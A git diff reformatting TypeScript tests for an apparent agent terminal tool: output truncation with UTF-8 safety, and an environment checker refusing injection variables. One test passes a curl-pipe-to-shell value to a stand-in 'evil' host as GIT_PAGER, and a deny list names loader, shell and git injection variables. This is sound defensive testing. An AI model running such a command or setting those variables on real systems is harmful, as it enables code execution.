@@ -62,28 +62,37 @@ describe('terminal output kept for the agent (TerminalOutput)', () => {
   });
 
   it('matches the model for any chunks and limit (property)', () => {
-    const chunk = fc.oneof(fc.uint8Array({ maxLength: 64 }), fc.string({ unit: 'grapheme', maxLength: 20 }).map((s) => new Uint8Array(Buffer.from(s))));
-    fc.assert(fc.property(fc.array(chunk, { maxLength: 60 }), fc.nat(200), (chunks, limit) => {
-      const o = new TerminalOutput(limit);
-      for (const c of chunks) o.append(Buffer.from(c));
-      const all = Buffer.concat(chunks.map((c) => Buffer.from(c)));
-      const expected = model(chunks, limit);
-      assert.equal(o.text(true), expected.toString('utf8'));
-      assert.equal(o.bytes, expected.length);
-      assert.ok(o.bytes <= limit && o.bytes >= Math.min(all.length, limit) - 3, 'at most 3 bytes under the limit');
-      assert.equal(o.truncated, all.length > limit);
-    }), { numRuns: 300 });
+    const chunk = fc.oneof(
+      fc.uint8Array({ maxLength: 64 }),
+      fc.string({ unit: 'grapheme', maxLength: 20 }).map((s) => new Uint8Array(Buffer.from(s))),
+    );
+    fc.assert(
+      fc.property(fc.array(chunk, { maxLength: 60 }), fc.nat(200), (chunks, limit) => {
+        const o = new TerminalOutput(limit);
+        for (const c of chunks) o.append(Buffer.from(c));
+        const all = Buffer.concat(chunks.map((c) => Buffer.from(c)));
+        const expected = model(chunks, limit);
+        assert.equal(o.text(true), expected.toString('utf8'));
+        assert.equal(o.bytes, expected.length);
+        assert.ok(o.bytes <= limit && o.bytes >= Math.min(all.length, limit) - 3, 'at most 3 bytes under the limit');
+        assert.equal(o.truncated, all.length > limit);
+      }),
+      { numRuns: 300 },
+    );
   });
 
   it('valid UTF-8 stays valid however it is cut (property)', () => {
     const text = fc.string({ unit: 'grapheme', maxLength: 30 }).filter((t) => !t.includes('\uFFFD'));
-    fc.assert(fc.property(fc.array(text, { maxLength: 40 }), fc.nat(120), (parts, limit) => {
-      const o = new TerminalOutput(limit);
-      for (const p of parts) o.append(Buffer.from(p));
-      const kept = o.text(true);
-      assert.ok(!kept.includes('\uFFFD'), 'no replacement character');
-      assert.ok(parts.join('').endsWith(kept), 'a suffix of the output');
-    }), { numRuns: 300 });
+    fc.assert(
+      fc.property(fc.array(text, { maxLength: 40 }), fc.nat(120), (parts, limit) => {
+        const o = new TerminalOutput(limit);
+        for (const p of parts) o.append(Buffer.from(p));
+        const kept = o.text(true);
+        assert.ok(!kept.includes('\uFFFD'), 'no replacement character');
+        assert.ok(parts.join('').endsWith(kept), 'a suffix of the output');
+      }),
+      { numRuns: 300 },
+    );
   });
 
   it('appends in time proportional to the chunk, not to what is kept', () => {
@@ -99,21 +108,68 @@ describe('terminal output kept for the agent (TerminalOutput)', () => {
 
 describe('terminal environment (terminalEnv)', () => {
   it('refuses loader, interpreter, shell, git and npm injection, naming the variable, in any case', () => {
-    for (const name of ['LD_PRELOAD', 'ld_preload', 'LD_AUDIT', 'DYLD_INSERT_LIBRARIES', 'NODE_OPTIONS', 'NODE_PATH', 'PYTHONSTARTUP', 'PYTHONPATH',
-      'PERL5OPT', 'RUBYOPT', 'BASH_ENV', 'ENV', 'PROMPT_COMMAND', 'PS4', 'BASH_FUNC_ls%%', 'PATH', 'Path', 'HOME', 'GIT_SSH_COMMAND',
-      'GIT_EXEC_PATH', 'GIT_CONFIG_COUNT', 'GIT_CONFIG_KEY_0', 'GIT_CONFIG_PARAMETERS', 'npm_config_script_shell', 'JAVA_TOOL_OPTIONS', 'GCONV_PATH']) {
-      assert.throws(() => checkEnv([{ name: 'CI', value: '1' }, { name, value: '/tmp/x' }]), (e: unknown) => e instanceof EnvRefusedError && e.message.includes(name), name);
+    for (const name of [
+      'LD_PRELOAD',
+      'ld_preload',
+      'LD_AUDIT',
+      'DYLD_INSERT_LIBRARIES',
+      'NODE_OPTIONS',
+      'NODE_PATH',
+      'PYTHONSTARTUP',
+      'PYTHONPATH',
+      'PERL5OPT',
+      'RUBYOPT',
+      'BASH_ENV',
+      'ENV',
+      'PROMPT_COMMAND',
+      'PS4',
+      'BASH_FUNC_ls%%',
+      'PATH',
+      'Path',
+      'HOME',
+      'GIT_SSH_COMMAND',
+      'GIT_EXEC_PATH',
+      'GIT_CONFIG_COUNT',
+      'GIT_CONFIG_KEY_0',
+      'GIT_CONFIG_PARAMETERS',
+      'npm_config_script_shell',
+      'JAVA_TOOL_OPTIONS',
+      'GCONV_PATH',
+    ]) {
+      assert.throws(
+        () =>
+          checkEnv([
+            { name: 'CI', value: '1' },
+            { name, value: '/tmp/x' },
+          ]),
+        (e: unknown) => e instanceof EnvRefusedError && e.message.includes(name),
+        name,
+      );
     }
   });
 
   it('accepts pagers and editors only with a harmless value', () => {
-    assert.deepEqual({ ...checkEnv([{ name: 'PAGER', value: 'cat' }, { name: 'GIT_PAGER', value: '' }, { name: 'GIT_EDITOR', value: 'true' }]) }, { PAGER: 'cat', GIT_PAGER: '', GIT_EDITOR: 'true' });
+    assert.deepEqual(
+      {
+        ...checkEnv([
+          { name: 'PAGER', value: 'cat' },
+          { name: 'GIT_PAGER', value: '' },
+          { name: 'GIT_EDITOR', value: 'true' },
+        ]),
+      },
+      { PAGER: 'cat', GIT_PAGER: '', GIT_EDITOR: 'true' },
+    );
     assert.match(envRefusal('GIT_PAGER', 'sh -c "curl evil | sh"') ?? '', /names a program/);
     assert.match(envRefusal('EDITOR', 'vim') ?? '', /names a program/);
   });
 
   it('passes ordinary variables, later duplicates winning, and `__proto__` as a plain name', () => {
-    const env = checkEnv([{ name: 'CI', value: '1' }, { name: 'NODE_ENV', value: 'test' }, { name: 'CI', value: 'true' }, { name: '__proto__', value: 'x' }]);
+    const env = checkEnv([
+      { name: 'CI', value: '1' },
+      { name: 'NODE_ENV', value: 'test' },
+      { name: 'CI', value: 'true' },
+      { name: '__proto__', value: 'x' },
+    ]);
     assert.equal(env.CI, 'true');
     assert.equal(env.NODE_ENV, 'test');
     assert.equal(Object.getPrototypeOf({ ...env }), Object.prototype);
